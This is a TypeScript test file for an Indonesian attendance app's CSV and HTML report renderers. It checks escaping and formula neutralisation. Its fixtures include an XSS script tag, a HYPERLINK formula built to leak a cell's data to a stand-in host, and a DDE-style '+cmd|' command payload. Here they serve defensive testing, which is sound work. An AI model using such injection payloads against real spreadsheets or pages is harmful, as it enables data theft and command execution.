import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { renderCsv } from '../../functions/core/render/csv';
import { esc, renderWall } from '../../functions/core/render/html';
import { localStamp, longDate } from '../../functions/core/render/labels';
import { safeCell } from '../../functions/core/render/spreadsheet-cell';
import type { Report } from '../../functions/core/report';

const report: Report = {
  date: '2026-11-27',
  timezone: 'Asia/Jakarta',
  workday: true,
  generatedAt: '2026-11-27T01:30:00.000Z',
  version: 2,
  totals: { expected: 6, present: 1, late: 1, excused: 1, absent: 3 },
  units: [],
  absent: [
    { employeeId: 'e1', name: '<script>alert("x")</script>', unit: 'Dinas <Kesehatan>' },
    { employeeId: 'e2', name: "Ruth O'Neil & Sons", unit: 'Dinas <Kesehatan>' },
    { employeeId: 'e3', name: '=HYPERLINK("http://evil")', unit: 'Sekretariat Daerah' },
  ],
  late: [{ employeeId: 'e4', name: 'Budi; Nasution', unit: 'Sekretariat Daerah', at: '07:47' }],
  excused: [
    { employeeId: 'e5', name: 'Dewi "Ayu" Harahap', unit: 'Badan, Pendapatan', kind: 'sick' },
  ],
  flagged: [
    {
      employeeId: 'e4',
      name: 'Budi; Nasution',
      unit: 'Sekretariat Daerah',
      status: 'late',
      flags: ['near_edge'],
    },
    {
      employeeId: 'e6',
      name: 'Eko Pane',
      unit: 'Sekretariat Daerah',
      status: 'on_time',
      flags: ['shared_device', 'new_device'],
    },
  ],
};

describe('longDate', () => {
  it('writes the date the Indonesian way', () => {
    expect(longDate('2026-11-27', 'id')).toBe('Jumat, 27 November 2026');
    expect(longDate('2026-08-17', 'id')).toBe('Senin, 17 Agustus 2026');
    expect(longDate('2026-11-27', 'en')).toMatch(/^Friday,? 27 November 2026$/);
  });
});

describe('renderCsv', () => {
  it.each([
    ['id', ';'],
    ['en', ','],
  ] as const)(
    'starts with a BOM, uses %s with "%s", and parses back to the same rows',
    (lang, sep) => {
      const csv = renderCsv(report, lang);
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      expect(parsed.meta.delimiter).toBe(sep);
      const [header, ...rows] = parsed.data;
      expect(header).toHaveLength(7);
      // 3 absent, 1 late, 1 excused, and 1 present with flags.
      expect(rows).toHaveLength(6);
      const byId = Object.fromEntries(rows.map((r) => [r[1], r]));
      expect(byId.e2?.[2]).toBe("Ruth O'Neil & Sons");
      expect(byId.e4?.[2]).toBe('Budi; Nasution');
      expect(byId.e4?.[5]).toBe('07:47');
      expect(byId.e6?.[6]).toBe(
        lang === 'id'
          ? 'perangkat dipakai pegawai lain, perangkat baru'
          : 'device used by another employee, new device',
      );
      expect(byId.e5?.[2]).toBe('Dewi "Ayu" Harahap');
      expect(byId.e5?.[0]).toBe('Badan, Pendapatan');
      // A formula is neutralised, not evaluated by Excel.
      expect(byId.e3?.[2]).toBe('\'=HYPERLINK("http://evil")');
    },
  );

  it('escapes a formula that spans lines (papaparse’s escapeFormulae lets it through)', () => {
    // From issue 12.1: a roster name that Excel would run as a HYPERLINK leaking column C.
    const name = '=HYPERLINK("http://x/?d="&C2,\n"Rina")';
    const unit = "+cmd|\n/C calc'!A0";
    const evil: Report = {
      ...report,
      absent: [{ employeeId: '@e7', name, unit }],
      late: [],
      excused: [],
      flagged: [],
    };
    for (const lang of ['id', 'en'] as const) {
      const rows = Papa.parse<string[]>(renderCsv(evil, lang).slice(1), {
        skipEmptyLines: true,
      }).data;
      expect(rows[1]?.slice(0, 3)).toEqual([`'${unit}`, "'@e7", `'${name}`]);
    }
  });

  it('lets no cell start like a formula, whatever the roster holds, and loses nothing', () => {
    const danger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ';', ',', "'", ' ');
    // Text that often starts like a formula and holds separators, quotes and line breaks.
    const text = fc
      .tuple(
        fc.option(danger, { nil: '' }),
        fc.array(fc.oneof(danger, fc.string()), { maxLength: 6 }),
      )
      .map(([first, rest]) => first + rest.join(''));
    const person = fc.record({ employeeId: text, name: text, unit: text });
    fc.assert(
      fc.property(
        fc.array(person, { minLength: 1, maxLength: 8 }),
        fc.array(person, { maxLength: 4 }),
        fc.constantFrom('id' as const, 'en' as const),
        (absent, excused, lang) => {
          const r: Report = {
            ...report,
            absent,
            late: [],
            excused: excused.map((p) => ({ ...p, kind: 'sick' as const })),
            flagged: [],
          };
          const parsed = Papa.parse<string[]>(renderCsv(r, lang).slice(1), {
            delimiter: lang === 'id' ? ';' : ',',
            newline: '\r\n',
          });
          expect(parsed.errors).toEqual([]);
          const cells = parsed.data.slice(1, 1 + absent.length + excused.length);
          for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          // Each cell reads back as what was written, behind a ' when it looked like a formula.
          const back = new Set(cells.map((c) => JSON.stringify(c.slice(0, 3))));
          for (const p of [...absent, ...excused]) {
            const want = [p.unit, p.employeeId, p.name].map(safeCell);
            expect(back.has(JSON.stringify(want))).toBe(true);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('labels rows in the language asked for', () => {
    expect(renderCsv(report, 'id')).toContain('Tidak hadir');
    expect(renderCsv(report, 'id')).toContain('Sakit');
    expect(renderCsv(report, 'en')).toContain('Absent');
  });
});

describe('renderWall', () => {
  const html = renderWall(report, { lang: 'id' });

  it('shows names and units only: no ids, no flags', () => {
    expect(html).not.toContain('e1<');
    expect(html).not.toMatch(/>e\d</);
    expect(html).not.toContain('Eko Pane');
    expect(html).not.toContain('near_edge');
  });

  it('holds every absent name and unit, escaped', () => {
    for (const p of report.absent) {
      expect(html).toContain(esc(p.name));
      expect(html).toContain(esc(p.unit));
    }
    expect(html).not.toContain('<script>');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('Ruth O&#39;Neil &amp; Sons');
  });

  it('is Indonesian by default: title, date, totals, the excused apart with their reason', () => {
    expect(html).toContain('<html lang="id">');
    expect(html).toContain('Daftar Pegawai Tidak Hadir Apel Pagi');
    expect(html).toContain('Jumat, 27 November 2026');
    expect(html).toMatch(/Tidak hadir: <b>3<\/b>/);
    expect(html).toContain('Berhalangan dengan keterangan (1)');
    expect(html).toMatch(/Dewi &quot;Ayu&quot; Harahap<\/td><td>Badan, Pendapatan<\/td><td>Sakit/);
    expect(html).toContain('@page{size:A4');
    // Late employees are counted, not named on the wall.
    expect(html).not.toContain('Budi; Nasution');
  });

  it('groups the absentees by unit', () => {
    expect(html).toContain('<h3>Dinas &lt;Kesehatan&gt; (2)</h3>');
    expect(html).toContain('<h3>Sekretariat Daerah (1)</h3>');
  });

  it('speaks English on request and refreshes itself on a lobby screen', () => {
    const en = renderWall(report, { lang: 'en', refreshS: 300 });
    expect(en).toContain('<html lang="en">');
    expect(en).toContain('Absent without an excuse (3)');
    expect(en).toContain('<meta http-equiv="refresh" content="300">');
    expect(html).not.toContain('http-equiv="refresh"');
  });

  it('signs the footer with the publication time in the deployment’s zone, year in full', () => {
    // 2026-11-27T01:30Z: 08.30 in Jakarta (WIB), 09.30 in Makassar (WITA).
    expect(html).toContain('<footer>Diterbitkan 27 November 2026 pukul 08.30 WIB · versi 2 · apel');
    expect(renderWall(report, { lang: 'en' })).toContain(
      '<footer>Published 27 November 2026, 08:30 WIB · version 2 · apel',
    );
    const wita = { ...report, timezone: 'Asia/Makassar' };
    expect(renderWall(wita, { lang: 'id' })).toContain(
      '<footer>Diterbitkan 27 November 2026 pukul 09.30 WITA · versi 2',
    );
    expect(renderWall(wita, { lang: 'en' })).toContain(
      '<footer>Published 27 November 2026, 09:30 WITA · version 2',
    );
  });

  it('takes the date in the deployment’s zone too, and names a zone outside Indonesia as Intl does', () => {
    const at = '2026-11-26T23:05:00.000Z';
    expect(localStamp(at, 'Asia/Jayapura', 'id')).toBe('27 November 2026 pukul 08.05 WIT');
    expect(localStamp(at, 'Asia/Pontianak', 'en')).toBe('27 November 2026, 06:05 WIB');
    expect(localStamp(at, 'UTC', 'en')).toBe('26 November 2026, 23:05 UTC');
  });

  it('says so on a holiday and lists nobody', () => {
    const holiday = renderWall(
      {
        ...report,
        workday: false,
        holiday: 'Hari Raya Natal',
        absent: [],
        excused: [],
        late: [],
        flagged: [],
      },
      { lang: 'id' },
    );
    expect(holiday).toContain('Hari Raya Natal. Bukan hari kerja; tidak ada apel.');
    expect(holiday).not.toContain('<ol>');
  });
});
